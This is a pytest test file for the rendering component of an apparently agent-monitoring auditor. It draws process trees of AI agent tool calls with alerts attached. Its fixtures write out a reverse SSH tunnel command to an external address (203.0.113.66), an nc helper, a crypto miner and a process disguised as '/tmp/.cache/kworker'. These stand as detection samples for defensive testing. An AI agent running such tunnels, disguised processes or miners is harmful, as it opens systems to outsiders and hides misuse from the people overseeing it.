"""The offending tree, drawn."""

import dataclasses

import pytest

from auditor.sinks.folds import Folds
from auditor.view.glyphs import ASCII, UNICODE
from auditor.view.strips import piece
from auditor.view.trees import TreeLine, fit, offence, state
from tests.builders import SECOND
from tests.unit.view.scene import (
    GPU,
    MINER,
    TUNNEL,
    connect,
    make_agent,
    make_alert,
    make_call,
    make_process,
    make_rome,
    run,
)


def draw(row, width=80, height=40, glyphs=UNICODE, now=20.0):
    """Draw a row's tree as a block of text."""
    return "\n".join(strip.text.rstrip() for strip in offence(row, int(now * SECOND), width, height, glyphs))


def freeze(*alerts):
    """Fold alerts into rows."""
    folds = Folds()
    for alert in alerts:
        folds.add(alert)
    return folds.freeze()


def test_a_tunnel_at_80_columns():
    """Session, tool call, processes, and under the offender the rule and what it rests on."""
    row = make_rome()[0].snapshot().rows[1]
    assert draw(row) == (
        " session rome  exe:*/agent\n"
        " └─ tool call t7\n"
        '    └─ 4121 bash -c "ssh -fN -R 8080:localhost:22 root@203.0.113.6… running 10s\n'
        "       └─ 4122 ssh -fN -R 8080:localhost:22 root@203.0.113.66        running 9s\n"
        "          ● HIGH Reverse SSH tunnel to an external address\n"
        "            → exec ssh -fN -R 8080:localhost:22 root@203.0.113.66\n"
        "            → connect 203.0.113.66:22 tcp external"
    )


def test_a_renamed_program_shows_its_file():
    """Where a process calls itself something else than its executable, both are shown."""
    row = make_rome()[0].snapshot().rows[0]
    assert "└─ 4131 [/tmp/.cache/kworker] trainer --threads 8 " in draw(row)


def test_two_branches_each_with_its_alert():
    """Each alert stands on the branch that it belongs to, with lines drawn on past it."""
    shell = make_call()
    ssh = make_process(101, ("ssh", "-R"), shell, start=11.0)
    helper = make_process(102, ("nc", "x"), ssh, start=12.0)
    miner = make_process(103, ("miner",), shell, start=13.0)
    rows = freeze(make_alert(TUNNEL, ssh), make_alert(GPU, helper), make_alert(MINER, miner, connect(miner)))
    assert draw(rows[0], width=60, glyphs=ASCII).splitlines()[2:] == [
        "    `- 100 bash -c make                         running 10s",
        "       |- 101 ssh -R                             running 9s",
        "       |  |  ! HIGH Reverse SSH tunnel to an external addre~",
        "       |  `- 102 nc x                            running 8s",
        "       |     ! MEDIUM GPU used by a process that was not gi~",
        "       `- 103 miner                              running 7s",
        "          ! CRITICAL Miner launched",
        "            > connect 203.0.113.66:22 tcp external",
    ]


def test_a_deep_tree_keeps_what_tells():
    """In a small panel the processes in between go first; call, offender, rule and where to stay."""
    process = make_call("t7")
    for number in range(1, 11):
        process = make_process(100 + number, (f"step{number}",), process)
    (row,) = freeze(make_alert(TUNNEL, process, run(process), connect(process)))
    picture = draw(row, height=7)
    assert len(picture.splitlines()) == 7
    for what in ("tool call t7", "110 step10", "HIGH Reverse SSH tunnel", "connect 203.0.113.66:22"):
        assert what in picture
    assert "left out" in picture
    assert "step4" not in picture


@pytest.mark.parametrize("height", range(12))
def test_a_tree_never_exceeds_its_height(height):
    """Even in no lines at all."""
    row = make_rome()[0].snapshot().rows[0]
    assert len(offence(row, 0, 80, height, UNICODE)) <= height


def test_left_out_lines_are_counted():
    """Each gap is one line that says how many lines it stands for."""
    lines = [TreeLine(weight, "  ", piece(f"line {number}")) for number, weight in enumerate((5, 0, 0, 0, 5, 5))]
    assert [strip.text.rstrip() for strip in fit(lines, 4, 20, ASCII)] == [
        "line 0",
        "  ~ 3 left out",
        "line 4",
        "line 5",
    ]
    assert [strip.text.rstrip() for strip in fit(lines, 6, 20, ASCII)] == [f"line {number}" for number in range(6)]


def test_gaps_in_the_lineage_are_shown():
    """Ancestors that the process table no longer had are counted on the way."""
    shell = make_call()
    child = make_process(101, ("ssh",), shell)
    child.elided = 40
    (row,) = freeze(make_alert(TUNNEL, child))
    assert "… 40 in between" in draw(row)


def test_the_agent_itself():
    """An alert that belongs to no tool call says so."""
    (row,) = freeze(make_alert(TUNNEL, make_agent()))
    assert "└─ the agent itself" in draw(row)


def test_evidence_of_another_process_names_it():
    """An event that another process of the tree did carries that process's pid."""
    shell = make_call()
    ssh = make_process(101, ("ssh",), shell)
    alert = make_alert(TUNNEL, ssh, connect(ssh))
    alert = dataclasses.replace(alert, evidence=(make_alert(TUNNEL, shell, run(shell)).evidence[0], *alert.evidence))
    picture = draw(freeze(alert)[0])
    assert "→ 100 exec bash -c make" in picture
    assert "→ connect 203.0.113.66:22" in picture


def test_states():
    """A process runs, ended with a code, was killed by a signal, or ended no one knows how."""
    process = make_call(start=10.0)
    (row,) = freeze(make_alert(TUNNEL, process))
    node = row.tree.roots[0]
    assert state(node, 15 * SECOND) == "running 5s"
    assert state(dataclasses.replace(node, exit_ns=13 * SECOND, exit_status=0x200), 0) == "exit 2 after 3s"
    assert state(dataclasses.replace(node, exit_ns=13 * SECOND, exit_status=9), 0) == "SIGKILL after 3s"
    assert state(dataclasses.replace(node, exit_ns=13 * SECOND), 0) == "ended after 3s"
